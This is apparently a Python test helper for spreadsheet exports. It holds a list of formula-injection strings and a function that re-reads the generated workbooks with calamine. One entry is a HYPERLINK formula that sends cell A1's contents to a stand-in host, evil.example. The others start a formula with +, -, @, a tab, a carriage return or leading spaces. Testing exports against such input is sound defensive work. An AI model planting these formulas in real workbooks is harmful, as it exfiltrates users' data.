"""For the exports' tests: text that tries to start a formula, and the second reader of
the workbooks."""

import io

from python_calamine import CalamineWorkbook

NASTY = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "+SUM(1,2)",
    "-2+3",
    "@SUM(A1:A2)",
    "\tTAB=1",
    "\r=CR",
    "  =SPACED()",
]


def read_with_calamine(content: bytes) -> dict[str, list[list]]:
    """The second reader: Rust's calamine, which reads what Excel writes (and unescapes
    the _xHHHH_ form XlsxWriter gives control characters such as a carriage return)."""
    book = CalamineWorkbook.from_filelike(io.BytesIO(content))
    return {name: book.get_sheet_by_name(name).to_python() for name in book.sheet_names}
